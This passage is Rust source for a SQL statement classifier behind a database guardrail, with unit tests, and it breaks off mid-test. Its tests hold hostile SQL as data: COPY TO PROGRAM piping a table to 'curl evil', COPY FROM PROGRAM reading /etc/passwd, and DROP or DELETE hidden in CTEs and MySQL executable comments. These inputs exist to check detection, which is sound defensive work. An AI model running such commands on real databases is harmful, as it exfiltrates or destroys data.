//! What a statement is: its kind, the tables it touches and the flags a guardrail cares about, read
//! from sqlparser's syntax tree (PostgreSQL and MySQL dialects).
//!
//! Classification looks at syntax only: it never guesses from keywords in the text, so a `DROP` in a
//! comment, a string or a quoted identifier is not a `DROP`. Text the parser does not understand is
//! [`Kind::Unparsed`], and the rules decide what happens to it. Statements nested in others (a
//! `DELETE` in a CTE, the statement of `PREPARE` or `EXPLAIN ANALYZE`) count towards the kind and
//! flags of the statement that holds them.

use std::collections::HashMap;
use std::fmt::Write as _;
use std::ops::ControlFlow;
use std::sync::Arc;

use sqlparser::ast::{
    visit_expressions, visit_relations, visit_statements, CopyTarget, Expr, FunctionArg,
    FunctionArgExpr, FunctionArguments, GrantObjects, ObjectName, ObjectNamePart, ObjectType,
    Query, Reset, Set, SetExpr, Statement, TransactionAccessMode, TransactionMode, Value,
};
use sqlparser::dialect::{MySqlDialect, PostgreSqlDialect};
use sqlparser::parser::Parser;
use sqlparser::tokenizer::{Token, TokenWithSpan, Tokenizer, Whitespace};

/// Text longer than this is not parsed: it is [`Kind::Unparsed`].
pub const MAX_CLASSIFIED_BYTES: usize = 256 * 1024;
/// Nesting depth the parser accepts before it gives up (its own bound on recursion).
const MAX_NESTING: usize = 64;
/// Classifications remembered per [`Classifier`].
const CACHE_ENTRIES: usize = 512;
/// Keys longer than this are not remembered, so the memory stays within
/// `CACHE_ENTRIES * MAX_REMEMBERED_KEY` bytes whatever a client sends.
const MAX_REMEMBERED_KEY: usize = 16 * 1024;

#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Dialect {
    Postgres,
    MySql,
}

/// What a statement does, from least to most powerful; a statement holding others takes the most
/// powerful kind among them.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Kind {
    Read,
    Transaction,
    /// Utility statements: settings, LISTEN/NOTIFY, VACUUM, PREPARE/EXECUTE, locks.
    Admin,
    Write,
    Ddl,
    Dcl,
    /// Text the parser did not understand (or too long to parse).
    Unparsed,
}

impl Kind {
    pub const ALL: [Kind; 7] = [
        Kind::Read,
        Kind::Transaction,
        Kind::Admin,
        Kind::Write,
        Kind::Ddl,
        Kind::Dcl,
        Kind::Unparsed,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Kind::Read => "read",
            Kind::Transaction => "transaction",
            Kind::Admin => "admin",
            Kind::Write => "write",
            Kind::Ddl => "ddl",
            Kind::Dcl => "dcl",
            Kind::Unparsed => "unparsed",
        }
    }

    pub fn from_name(name: &str) -> Option<Kind> {
        Kind::ALL.into_iter().find(|k| k.name() == name)
    }
}

/// A property of a statement that guardrails match on.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flag {
    DeleteWithoutWhere,
    UpdateWithoutWhere,
    Drop,
    DropDatabase,
    Truncate,
    Alter,
    Grant,
    Revoke,
    CopyProgram,
    MultiStatement,
    /// Turns a transaction or the session read-write (`BEGIN READ WRITE`, `SET
    /// default_transaction_read_only`, `RESET ALL`, `set_config(...)` of those settings).
    ReadWrite,
    /// Loads a file into a table: MySQL's `LOAD DATA [LOCAL] INFILE` (the client's file, or the
    /// server's).
    LoadFile,
}

impl Flag {
    pub const ALL: [Flag; 12] = [
        Flag::DeleteWithoutWhere,
        Flag::UpdateWithoutWhere,
        Flag::Drop,
        Flag::DropDatabase,
        Flag::Truncate,
        Flag::Alter,
        Flag::Grant,
        Flag::Revoke,
        Flag::CopyProgram,
        Flag::MultiStatement,
        Flag::ReadWrite,
        Flag::LoadFile,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Flag::DeleteWithoutWhere => "delete_without_where",
            Flag::UpdateWithoutWhere => "update_without_where",
            Flag::Drop => "drop",
            Flag::DropDatabase => "drop_database",
            Flag::Truncate => "truncate",
            Flag::Alter => "alter",
            Flag::Grant => "grant",
            Flag::Revoke => "revoke",
            Flag::CopyProgram => "copy_program",
            Flag::MultiStatement => "multi_statement",
            Flag::ReadWrite => "read_write",
            Flag::LoadFile => "load_file",
        }
    }

    pub fn from_name(name: &str) -> Option<Flag> {
        Flag::ALL.into_iter().find(|f| f.name() == name)
    }

    fn bit(self) -> u16 {
        1 << (self as u16)
    }
}

/// A set of [`Flag`]s.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Flags(u16);

impl Flags {
    pub fn of(flags: &[Flag]) -> Self {
        let mut set = Flags::default();
        for flag in flags {
            set.insert(*flag);
        }
        set
    }

    pub fn insert(&mut self, flag: Flag) {
        self.0 |= flag.bit();
    }

    pub fn contains(self, flag: Flag) -> bool {
        self.0 & flag.bit() != 0
    }

    pub fn intersects(self, other: Flags) -> bool {
        self.0 & other.0 != 0
    }

    pub fn is_empty(self) -> bool {
        self.0 == 0
    }

    pub fn iter(self) -> impl Iterator<Item = Flag> {
        Flag::ALL.into_iter().filter(move |f| self.contains(*f))
    }

    fn union(&mut self, other: Flags) {
        self.0 |= other.0;
    }
}

/// One statement, classified.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct StatementClass {
    pub kind: Kind,
    pub flags: Flags,
    /// Tables (and other relations) it names, as `schema.table`: unquoted names folded to lower case.
    pub tables: Vec<String>,
}

/// A query text, classified: one entry per statement (none for an empty query).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Classification {
    pub statements: Vec<StatementClass>,
    /// Why the text is unparsed, when it is.
    pub error: Option<String>,
}

impl Classification {
    fn unparsed(reason: String) -> Self {
        Self {
            statements: vec![StatementClass {
                kind: Kind::Unparsed,
                flags: Flags::default(),
                tables: Vec::new(),
            }],
            error: Some(reason),
        }
    }
}

/// Classifies query texts of one dialect, remembering recent answers.
///
/// The memory is keyed so that the same statement with other numbers (`WHERE id = 7`, `WHERE id = 8`)
/// is parsed once. That is sound because no kind, flag or table depends on a number's value. Two keys:
///
/// - For plain text (see [`plain_key`]) the text itself with its standalone digit runs blanked, found
///   without tokenizing: the statements clients repeat most cost one pass over their bytes.
/// - Otherwise the token sequence with numeric literals blanked, each token written so that two
///   different sequences never share a key (strings and identifiers with their length).
pub struct Classifier {
    dialect: Dialect,
    memory: HashMap<String, Arc<Classification>>,
    key: String,
}

impl Classifier {
    pub fn new(dialect: Dialect) -> Self {
        Self {
            dialect,
            memory: HashMap::new(),
            key: String::new(),
        }
    }

    pub fn classify(&mut self, sql: &str) -> Arc<Classification> {
        if sql.len() > MAX_CLASSIFIED_BYTES {
            return Arc::new(Classification::unparsed(format!(
                "the text is longer than {MAX_CLASSIFIED_BYTES} bytes"
            )));
        }
        // MySQL runs the text of `/*! ... */` comments; a parser reads them as comments.
        if self.dialect == Dialect::MySql && sql.contains("/*!") {
            return Arc::new(Classification::unparsed(
                "MySQL executable comments (/*! */) are not classified".into(),
            ));
        }
        let postgres = PostgreSqlDialect {};
        let mysql = MySqlDialect {};
        let dialect: &dyn sqlparser::dialect::Dialect = match self.dialect {
            Dialect::Postgres => &postgres,
            Dialect::MySql => &mysql,
        };
        let plain = plain_key(sql, &mut self.key);
        if plain {
            if let Some(known) = self.memory.get(&self.key) {
                return known.clone();
            }
        }
        let tokens = match Tokenizer::new(dialect, sql).tokenize_with_location() {
            Ok(tokens) => tokens,
            Err(e) => return Arc::new(Classification::unparsed(e.to_string())),
        };
        if self.dialect == Dialect::MySql {
            if let Some(load) = mysql_load_data(&tokens) {
                return Arc::new(Classification {
                    statements: vec![load],
                    error: None,
                });
            }
        }
        if !plain {
            token_key(&tokens, &mut self.key);
            if let Some(known) = self.memory.get(&self.key) {
                return known.clone();
            }
        }
        let parsed = Parser::new(dialect)
            .with_recursion_limit(MAX_NESTING)
            .with_tokens_with_locations(tokens)
            .parse_statements();
        let statements = match parsed {
            Ok(statements) => statements,
            // Failures are not remembered: the error names the text it failed on.
            Err(e) => return Arc::new(Classification::unparsed(e.to_string())),
        };
        let mut classes: Vec<StatementClass> = statements.iter().map(classify_statement).collect();
        if classes.len() > 1 {
            for class in &mut classes {
                class.flags.insert(Flag::MultiStatement);
            }
        }
        let classification = Arc::new(Classification {
            statements: classes,
            error: None,
        });
        if self.key.len() <= MAX_REMEMBERED_KEY {
            if self.memory.len() >= CACHE_ENTRIES {
                self.memory.clear();
            }
            self.memory.insert(self.key.clone(), classification.clone());
        }
        classification
    }
}

/// Writes the memory key of a text made only of ASCII letters, digits, `_`, white space and the
/// punctuation `= , . ( ) * ; < > + - : !`, without `--`; returns false for any other text. Such a text
/// holds no string, quoted identifier, comment, placeholder or dollar quote, so a digit can only be
/// part of a word or of a number. A digit run with no letter, digit, `_` or `.` on either side is a
/// whole number token: it is blanked. Every other byte is kept, so two texts share a key only when
/// they differ in such numbers alone.
fn plain_key(sql: &str, key: &mut String) -> bool {
    key.clear();
    key.push('\u{1}');
    let bytes = sql.as_bytes();
    let joins = |b: u8| b.is_ascii_alphanumeric() || b == b'_' || b == b'.';
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        let allowed = b.is_ascii_alphanumeric()
            || matches!(
                b,
                b'_' | b' '
                    | b'\t'
                    | b'\n'
                    | b'\r'
                    | b'='
                    | b','
                    | b'.'
                    | b'('
                    | b')'
                    | b'*'
                    | b';'
                    | b'<'
                    | b'>'
                    | b'+'
                    | b'-'
                    | b':'
                    | b'!'
            );
        if !allowed || (b == b'-' && bytes.get(i + 1) == Some(&b'-')) {
            return false;
        }
        if b.is_ascii_digit() && (i == 0 || !joins(bytes[i - 1])) {
            let end = bytes[i..]
                .iter()
                .position(|c| !c.is_ascii_digit())
                .map_or(bytes.len(), |n| i + n);
            if bytes.get(end).is_none_or(|&c| !joins(c)) {
                key.push('#');
            } else {
                key.push_str(&sql[i..end]);
            }
            i = end;
            continue;
        }
        key.push(char::from(b));
        i += 1;
    }
    true
}

/// Writes the memory key of a token sequence: numbers blanked, strings and identifiers written with
/// their length (so no content can pass for a token boundary), other tokens by their `Debug` name.
fn token_key(tokens: &[TokenWithSpan], key: &mut String) {
    key.clear();
    for token in tokens {
        match &token.token {
            Token::Number(..) => key.push_str("\n#"),
            Token::Whitespace(Whitespace::Space | Whitespace::Newline | Whitespace::Tab) => {
                key.push_str("\n ")
            }
            Token::Word(word) => {
                let quote = word.quote_style.unwrap_or(' ');
                let _ = write!(key, "\nw{quote}{}:{}", word.value.len(), word.value);
            }
            Token::SingleQuotedString(text) => {
                let _ = write!(key, "\ns{}:{text}", text.len());
            }
            other => {
                let _ = write!(key, "\n{other:?}");
            }
        }
    }
}

/// Classifies one parsed statement and everything nested in it.
fn classify_statement(statement: &Statement) -> StatementClass {
    let mut class = StatementClass {
        kind: Kind::Read,
        flags: Flags::default(),
        tables: Vec::new(),
    };
    match statement {
        // A plan is not an execution: EXPLAIN without ANALYZE reads, whatever it explains.
        Statement::Explain {
            analyze: false,
            statement,
            ..
        } => collect_tables(statement, &mut class.tables),
        _ => {
            let _ = visit_statements(statement, |nested| {
                let (kind, flags) = judge(nested, &mut class.tables);
                class.kind = class.kind.max(kind);
                class.flags.union(flags);
                ControlFlow::<()>::Continue(())
            });
            let _ = visit_expressions(statement, |expr| {
                if sets_read_only_setting(expr) {
                    class.flags.insert(Flag::ReadWrite);
                }
                ControlFlow::<()>::Continue(())
            });
            collect_tables(statement, &mut class.tables);
        }
    }
    class.tables.sort();
    class.tables.dedup();
    class
}

fn collect_tables(statement: &Statement, tables: &mut Vec<String>) {
    let _ = visit_relations(statement, |name| {
        tables.push(object_name(name));
        ControlFlow::<()>::Continue(())
    });
}

/// MySQL's `LOAD DATA|XML [LOW_PRIORITY|CONCURRENT] [LOCAL] INFILE 'file' [REPLACE|IGNORE] INTO
/// TABLE name ...`, which sqlparser does not parse: recognised by that grammar (not guessed from a
/// keyword), as a write to the table. What follows the table name (column and line options) cannot
/// hold another statement unless a `;` ends it, and then the text is left unparsed.
fn mysql_load_data(tokens: &[TokenWithSpan]) -> Option<StatementClass> {
    let mut words = tokens
        .iter()
        .map(|t| &t.token)
        .filter(|t| !matches!(t, Token::Whitespace(_) | Token::EOF));
    let keyword = |token: Option<&Token>, expected: &[&str]| match token {
        Some(Token::Word(word)) if word.quote_style.is_none() => expected
            .iter()
            .any(|e| word.value.eq_ignore_ascii_case(e))
            .then_some(()),
        _ => None,
    };
    keyword(words.next(), &["LOAD"])?;
    keyword(words.next(), &["DATA", "XML"])?;
    let mut next = words.next();
    if keyword(next, &["LOW_PRIORITY", "CONCURRENT"]).is_some() {
        next = words.next();
    }
    if keyword(next, &["LOCAL"]).is_some() {
        next = words.next();
    }
    keyword(next, &["INFILE"])?;
    match words.next()? {
        Token::SingleQuotedString(_) | Token::DoubleQuotedString(_) => {}
        _ => return None,
    }
    next = words.next();
    if keyword(next, &["REPLACE", "IGNORE"]).is_some() {
        next = words.next();
    }
    keyword(next, &["INTO"])?;
    keyword(words.next(), &["TABLE"])?;
    let mut table = String::new();
    loop {
        match words.next()? {
            Token::Word(word) if word.quote_style.is_none() => {
                table.push_str(&word.value.to_lowercase())
            }
            Token::Word(word) => table.push_str(&word.value),
            _ => return None,
        }
        let mut rest = words.clone();
        if rest.next() != Some(&Token::Period) {
            break;
        }
        words.next();
        table.push('.');
    }
    let mut rest = words.skip_while(|t| **t != Token::SemiColon);
    if rest.next().is_some() && rest.next().is_some() {
        return None;
    }
    Some(StatementClass {
        kind: Kind::Write,
        flags: Flags::of(&[Flag::LoadFile]),
        tables: vec![table],
    })
}

/// `schema.table`, with unquoted parts folded to lower case as PostgreSQL does.
fn object_name(name: &ObjectName) -> String {
    let mut out = String::new();
    for (i, part) in name.0.iter().enumerate() {
        if i > 0 {
            out.push('.');
        }
        match part {
            ObjectNamePart::Identifier(ident) if ident.quote_style.is_none() => {
                out.push_str(&ident.value.to_lowercase())
            }
            ObjectNamePart::Identifier(ident) => out.push_str(&ident.value),
            ObjectNamePart::Function(function) => out.push_str(&function.name.value),
        }
    }
    out
}

fn is_read_only_setting(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    let name = name.rsplit('.').next().unwrap_or(&name);
    matches!(
        name,
        "default_transaction_read_only" | "transaction_read_only"
    )
}

fn read_write_mode(modes: &[TransactionMode]) -> bool {
    modes.iter().any(|m| {
        matches!(
            m,
            TransactionMode::AccessMode(TransactionAccessMode::ReadWrite)
        )
    })
}

/// `set_config(...)` whose setting is a read-only one, or not a literal (so it could be).
fn sets_read_only_setting(expr: &Expr) -> bool {
    let Expr::Function(function) = expr else {
        return false;
    };
    let Some(ObjectNamePart::Identifier(last)) = function.name.0.last() else {
        return false;
    };
    if !last.value.eq_ignore_ascii_case("set_config") {
        return false;
    }
    let first = match &function.args {
        FunctionArguments::List(list) => list.args.first(),
        _ => None,
    };
    match first {
        Some(FunctionArg::Unnamed(FunctionArgExpr::Expr(Expr::Value(value)))) => {
            match &value.value {
                Value::SingleQuotedString(name) | Value::EscapedStringLiteral(name) => {
                    is_read_only_setting(name)
                }
                _ => true,
            }
        }
        _ => true,
    }
}

fn query_creates_table(query: &Query) -> bool {
    fn body(set: &SetExpr) -> bool {
        match set {
            SetExpr::Select(select) => select.into.is_some(),
            SetExpr::SetOperation { left, right, .. } => body(left) || body(right),
            SetExpr::Query(query) => query_creates_table(query),
            _ => false,
        }
    }
    body(&query.body)
}

/// The kind and flags of one statement on its own (nested statements are judged separately), and the
/// tables it names that the relation visitor does not see.
fn judge(statement: &Statement, tables: &mut Vec<String>) -> (Kind, Flags) {
    use Flag::*;
    let mut flags = Flags::default();
    let kind = match statement {
        Statement::Query(query) if query_creates_table(query) => Kind::Ddl,
        Statement::Query(_)
        | Statement::Explain { .. }
        | Statement::ExplainTable { .. }
        | Statement::Declare { .. }
        | Statement::Fetch { .. }
        | Statement::Close { .. }
        | Statement::ShowFunctions { .. }
        | Statement::ShowVariable { .. }
        | Statement::ShowStatus { .. }
        | Statement::ShowVariables { .. }
        | Statement::ShowCreate { .. }
        | Statement::ShowColumns { .. }
        | Statement::ShowCatalogs { .. }
        | Statement::ShowDatabases { .. }
        | Statement::ShowProcessList { .. }
        | Statement::ShowSchemas { .. }
        | Statement::ShowCharset(_)
        | Statement::ShowObjects(_)
        | Statement::ShowTables { .. }
        | Statement::ShowViews { .. }
        | Statement::ShowCollation { .. } => Kind::Read,
        Statement::Insert(_)
        | Statement::Merge(_)
        | Statement::Call(_)
        | Statement::LoadData { .. }
        | Statement::RefreshMaterializedView(_) => Kind::Write,
        Statement::Update(update) => {
            if update.selection.is_none() {
                flags.insert(UpdateWithoutWhere);
            }
            Kind::Write
        }
        Statement::Delete(delete) => {
            if delete.selection.is_none() {
                flags.insert(DeleteWithoutWhere);
            }
            Kind::Write
        }
        Statement::Truncate(_) => {
            flags.insert(Truncate);
            Kind::Write
        }
        Statement::Copy {
            source, to, target, ..
        } => {
            if let sqlparser::ast::CopySource::Table { table_name, .. } = source {
                tables.push(object_name(table_name));
            }
            if matches!(target, CopyTarget::Program { .. }) {
                flags.insert(CopyProgram);
            }
            if *to {
                Kind::Read
            } else {
                Kind::Write
            }
        }
        Statement::StartTransaction { modes, .. } => {
            if read_write_mode(modes) {
                flags.insert(ReadWrite);
            }
            Kind::Transaction
        }
        Statement::Commit { .. }
        | Statement::Rollback { .. }
        | Statement::Savepoint { .. }
        | Statement::ReleaseSavepoint { .. } => Kind::Transaction,
        Statement::Set(set) => match set {
            Set::SetTransaction { modes, .. } => {
                if read_write_mode(modes) {
                    flags.insert(ReadWrite);
                }
                Kind::Transaction
            }
            Set::SingleAssignment { variable, .. } => {
                if is_read_only_setting(&object_name(variable)) {
                    flags.insert(ReadWrite);
                }
                Kind::Admin
            }
            Set::ParenthesizedAssignments { variables, .. } => {
                if variables
                    .iter()
                    .any(|v| is_read_only_setting(&object_name(v)))
                {
                    flags.insert(ReadWrite);
                }
                Kind::Admin
            }
            Set::MultipleAssignments { assignments } => {
                if assignments
                    .iter()
                    .any(|a| is_read_only_setting(&object_name(&a.name)))
                {
                    flags.insert(ReadWrite);
                }
                Kind::Admin
            }
            _ => Kind::Admin,
        },
        Statement::Reset(reset) => {
            match &reset.reset {
                Reset::ALL => flags.insert(ReadWrite),
                Reset::ConfigurationParameter(name) if is_read_only_setting(&object_name(name)) => {
                    flags.insert(ReadWrite)
                }
                _ => {}
            }
            Kind::Admin
        }
        Statement::Prepare { .. }
        | Statement::Execute { .. }
        | Statement::Deallocate { .. }
        | Statement::Discard { .. }
        | Statement::LISTEN { .. }
        | Statement::UNLISTEN { .. }
        | Statement::NOTIFY { .. }
        | Statement::Vacuum(_)
        | Statement::Analyze(_)
        | Statement::Lock(_)
        | Statement::LockTables { .. }
        | Statement::UnlockTables
        | Statement::Kill { .. }
        | Statement::Use(_)
        | Statement::Flush { .. }
        | Statement::AlterSession { .. } => Kind::Admin,
        Statement::Grant(_) | Statement::GrantRole(_) => {
            flags.insert(Grant);
            Kind::Dcl
        }
        Statement::Revoke(_) | Statement::RevokeRole(_) => {
            flags.insert(Revoke);
            Kind::Dcl
        }
        Statement::Deny(_)
        | Statement::CreateRole(_)
        | Statement::CreateUser(_)
        | Statement::AlterDefaultPrivileges(_) => Kind::Dcl,
        Statement::AlterRole { .. } | Statement::AlterUser(_) => {
            flags.insert(Alter);
            Kind::Dcl
        }
        Statement::Drop {
            object_type, names, ..
        } => {
            flags.insert(Drop);
            match object_type {
                ObjectType::Role | ObjectType::User => Kind::Dcl,
                ObjectType::Database => {
                    flags.insert(DropDatabase);
                    Kind::Ddl
                }
                ObjectType::Table | ObjectType::View | ObjectType::MaterializedView => {
                    tables.extend(names.iter().map(object_name));
                    Kind::Ddl
                }
                _ => Kind::Ddl,
            }
        }
        Statement::DropFunction(_)
        | Statement::DropDomain(_)
        | Statement::DropProcedure { .. }
        | Statement::DropSecret { .. }
        | Statement::DropPolicy(_)
        | Statement::DropRule(_)
        | Statement::DropConnector { .. }
        | Statement::DropExtension(_)
        | Statement::DropOperator(_)
        | Statement::DropOperatorFamily(_)
        | Statement::DropOperatorClass(_)
        | Statement::DropTrigger(_) => {
            flags.insert(Drop);
            Kind::Ddl
        }
        Statement::AlterTable(_)
        | Statement::AlterSchema(_)
        | Statement::AlterIndex { .. }
        | Statement::AlterView(_)
        | Statement::AlterFunction(_)
        | Statement::AlterType(_)
        | Statement::AlterCollation(_)
        | Statement::AlterOperator(_)
        | Statement::AlterOperatorFamily(_)
        | Statement::AlterOperatorClass(_)
        | Statement::AlterTextSearch(_)
        | Statement::AlterPolicy(_)
        | Statement::AlterTrigger(_)
        | Statement::AlterConnector { .. } => {
            flags.insert(Alter);
            Kind::Ddl
        }
        // Everything else creates, renames or changes schema objects, or is a statement this
        // classifier does not know: treated as DDL, the kind guardrails hold most often.
        _ => Kind::Ddl,
    };
    if let Statement::Grant(grant) = statement {
        if let Some(GrantObjects::Tables(names)) = &grant.objects {
            tables.extend(names.iter().map(object_name));
        }
    }
    (kind, flags)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn one(sql: &str) -> StatementClass {
        let classified = Classifier::new(Dialect::Postgres).classify(sql);
        assert_eq!(classified.statements.len(), 1, "{sql}: {classified:?}");
        classified.statements[0].clone()
    }

    fn flags(sql: &str) -> Vec<&'static str> {
        one(sql).flags.iter().map(Flag::name).collect()
    }

    #[test]
    fn reads() {
        for sql in [
            "SELECT abalance FROM pgbench_accounts WHERE aid = 42",
            "select * from users u join orders o on o.user_id = u.id where u.id = $1",
            "WITH recent AS (SELECT * FROM orders WHERE at > now() - interval '1 day') SELECT count(*) FROM recent",
            "SELECT 'DROP TABLE users; DELETE FROM users'",
            "SELECT 1 /* DROP TABLE users */",
            "SELECT 1 -- ; DELETE FROM users",
            "SELECT $$ DELETE FROM users $$",
            "SELECT $body$ it's ; DROP TABLE t $body$ AS x",
            "SELECT \"DROP\", \"delete from\" FROM \"my table\"",
            "SELECT * FROM t FOR UPDATE",
            "SHOW work_mem",
            "EXPLAIN DELETE FROM users",
            "COPY users TO STDOUT",
            "COPY (SELECT * FROM users) TO STDOUT WITH CSV",
        ] {
            let class = one(sql);
            assert_eq!(class.kind, Kind::Read, "{sql}");
            assert!(class.flags.is_empty(), "{sql}: {:?}", class.flags);
        }
    }

    #[test]
    fn writes_and_their_flags() {
        assert_eq!(one("INSERT INTO t VALUES (1)").kind, Kind::Write);
        assert_eq!(flags("DELETE FROM t"), ["delete_without_where"]);
        assert_eq!(flags("DELETE FROM t WHERE id = 1").len(), 0);
        assert_eq!(
            flags("DELETE FROM t USING u WHERE t.id = u.id").len(),
            0,
            "DELETE ... USING with WHERE"
        );
        assert_eq!(flags("DELETE FROM t USING u"), ["delete_without_where"]);
        assert_eq!(flags("UPDATE t SET a = 1"), ["update_without_where"]);
        assert_eq!(
            flags("UPDATE t SET a = u.a FROM u WHERE t.id = u.id").len(),
            0
        );
        assert_eq!(
            flags("UPDATE t SET a = u.a FROM u"),
            ["update_without_where"]
        );
        let cte = one("WITH gone AS (DELETE FROM t RETURNING *) SELECT count(*) FROM gone");
        assert_eq!(cte.kind, Kind::Write, "a DELETE hidden in a CTE");
        assert!(cte.flags.contains(Flag::DeleteWithoutWhere));
        assert_eq!(one("TRUNCATE t").flags, Flags::of(&[Flag::Truncate]));
        assert_eq!(one("COPY t FROM STDIN").kind, Kind::Write);
        assert_eq!(flags("COPY t TO PROGRAM 'curl evil'"), ["copy_program"]);
        assert_eq!(
            flags("COPY t FROM PROGRAM 'cat /etc/passwd'"),
            ["copy_program"]
        );
        assert_eq!(
            one("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE").kind,
            Kind::Write
        );
        assert_eq!(one("CALL refresh_everything()").kind, Kind::Write);
        let explained = one("EXPLAIN ANALYZE DELETE FROM t");
        assert_eq!(explained.kind, Kind::Write, "EXPLAIN ANALYZE runs it");
        assert!(explained.flags.contains(Flag::DeleteWithoutWhere));
        let prepared = one("PREPARE wipe AS DELETE FROM t");
        assert_eq!(prepared.kind, Kind::Write);
        assert!(prepared.flags.contains(Flag::DeleteWithoutWhere));
        assert_eq!(one("SELECT * INTO copy_of_t FROM t").kind, Kind::Ddl);
    }

    #[test]
    fn schema_and_privileges() {
        let drop = one("DROP TABLE public.\"Users\", orders");
        assert_eq!(drop.kind, Kind::Ddl);
        assert_eq!(drop.flags, Flags::of(&[Flag::Drop]));
        assert_eq!(drop.tables, ["orders", "public.Users"]);
        assert_eq!(flags("DROP DATABASE prod"), ["drop", "drop_database"]);
        assert_eq!(flags("/* harmless */ DROP TABLE t"), ["drop"]);
        assert_eq!(flags("drop/**/table t"), ["drop"]);
        let alter = one("ALTER TABLE t ADD COLUMN c int");
        assert_eq!(
            (alter.kind, alter.flags),
            (Kind::Ddl, Flags::of(&[Flag::Alter]))
        );
        assert_eq!(alter.tables, ["t"]);
        assert_eq!(one("CREATE TABLE t (a int)").kind, Kind::Ddl);
        assert_eq!(one("CREATE INDEX ON t (a)").tables, ["t"]);
        assert_eq!(one("COMMENT ON TABLE t IS 'x'").kind, Kind::Ddl);
        let grant = one("GRANT SELECT ON accounts TO intern");
        assert_eq!(
            (grant.kind, grant.flags),
            (Kind::Dcl, Flags::of(&[Flag::Grant]))
        );
        assert_eq!(grant.tables, ["accounts"]);
        assert_eq!(flags("REVOKE ALL ON accounts FROM intern"), ["revoke"]);
        assert_eq!(one("CREATE ROLE auditor").kind, Kind::Dcl);
        assert_eq!(one("ALTER ROLE app SUPERUSER").kind, Kind::Dcl);
    }

    #[test]
    fn transactions_and_settings() {
        for sql in [
            "BEGIN",
            "COMMIT",
            "ROLLBACK",
            "SAVEPOINT a",
            "RELEASE SAVEPOINT a",
        ] {
            assert_eq!(one(sql).kind, Kind::Transaction, "{sql}");
        }
        assert_eq!(flags("BEGIN READ WRITE"), ["read_write"]);
        assert_eq!(
            flags("START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE"),
            ["read_write"]
        );
        assert_eq!(flags("SET TRANSACTION READ WRITE"), ["read_write"]);
        assert_eq!(
            flags("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE"),
            ["read_write"]
        );
        assert_eq!(
            flags("SET default_transaction_read_only = off"),
            ["read_write"]
        );
        assert_eq!(
            flags("SET SESSION transaction_read_only TO off"),
            ["read_write"]
        );
        assert_eq!(flags("RESET ALL"), ["read_write"]);
        assert_eq!(flags("RESET default_transaction_read_only"), ["read_write"]);
        assert_eq!(
            flags("SELECT set_config('default_transaction_read_only', 'off', false)"),
            ["read_write"]
        );
        assert_eq!(flags("SELECT set_config($1, 'off', false)"), ["read_write"]);
        assert!(flags("SELECT pg_catalog.set_config('search_path', '', false)").is_empty());
        let setting = one("SET work_mem = '64MB'");
        assert_eq!(
            (setting.kind, setting.flags),
            (Kind::Admin, Flags::default())
        );
        assert_eq!(one("LISTEN jobs").kind, Kind::Admin);
        assert_eq!(one("VACUUM t").kind, Kind::Admin);
    }

    #[test]
    fn each_statement_of_a_multi_statement_text() {
        let classified = Classifier::new(Dialect::Postgres)
            .classify("SELECT 1; DELETE FROM t; /* ; */ DROP TABLE u;");
        let kinds: Vec<Kind> = classified.statements.iter().map(|s| s.kind).collect();
        assert_eq!(kinds, [Kind::Read, Kind::Write, Kind::Ddl]);
        assert!(classified
            .statements
            .iter()
            .all(|s| s.flags.contains(Flag::MultiStatement)));
        assert!(classified.statements[1]
            .flags
            .contains(Flag::DeleteWithoutWhere));
        assert!(Classifier::new(Dialect::Postgres)
            .classify("  -- nothing\n;")
            .statements
            .is_empty());
    }

    #[test]
    fn what_does_not_parse_is_unparsed() {
        for sql in [
            "DO $$ BEGIN DELETE FROM t; END $$",
            "SELEC 1",
            "SELECT 'unterminated",
        ] {
            let classified = Classifier::new(Dialect::Postgres).classify(sql);
            assert_eq!(classified.statements[0].kind, Kind::Unparsed, "{sql}");
            assert!(classified.error.is_some());
        }
        let deep = format!("SELECT {}1{}", "(".repeat(5000), ")".repeat(5000));
        assert_eq!(one(&deep).kind, Kind::Unparsed, "nesting is bounded");
        let long = format!("SELECT '{}'", "x".repeat(MAX_CLASSIFIED_BYTES));
        assert_eq!(one(&long).kind, Kind::Unparsed, "size is bounded");
    }

    #[test]
    fn mysql_dialect() {
        let mut mysql = Classifier::new(Dialect::MySql);
        let class = &mysql.classify("DELETE FROM `orders`").statements[0];
        assert_eq!(class.tables, ["orders"]);
        assert!(class.flags.contains(Flag::DeleteWithoutWhere));
        assert_eq!(
            mysql
                .classify("SELECT 1 /*!50000 ; DROP TABLE t */")
                .statements[0]
                .kind,
            Kind::Unparsed,
            "MySQL runs executable comments"
        );
        assert_eq!(mysql.classify("SHOW TABLES").statements[0].kind, Kind::Read);
        for load in [
            "LOAD DATA LOCAL INFILE 'keys.csv' INTO TABLE Keys",
            "load data concurrent local infile \"/tmp/k.csv\" replace into table app.keys fields terminated by ','",
            "LOAD XML INFILE 'k.xml' INTO TABLE `Keys` ROWS IDENTIFIED BY '<k>';",
        ] {
            let class = &mysql.classify(load).statements[0];
            assert_eq!(class.kind, Kind::Write, "{load}");
            assert!(class.flags.contains(Flag::LoadFile), "{load}");
            assert!(class.tables[0].ends_with("keys") || class.tables[0] == "Keys", "{load}");
        }
        for not_load in [
            "LOAD DATA LOCAL INFILE 'k.csv' INTO TABLE t; DROP TABLE t",
            "LOAD DATA LOCAL INFILE k INTO TABLE t",
        ] {
            assert_eq!(
                mysql.classify(not_load).statements[0].kind,
                Kind::Unparsed,
                "{not_load}"
            );
        }
    }

    #[test]
    fn plain_keys_blank_whole_numbers_only() {
        let key = |sql: &str| {
            let mut key = String::new();
            plain_key(sql, &mut key).then_some(key)
        };
        assert_eq!(
            key("SELECT a FROM t WHERE id = 42;"),
            key("SELECT a FROM t WHERE id = 7;")
        );
        assert_ne!(
            key("SELECT * FROM t1"),
            key("SELECT * FROM t2"),
            "digits of names stay"
        );
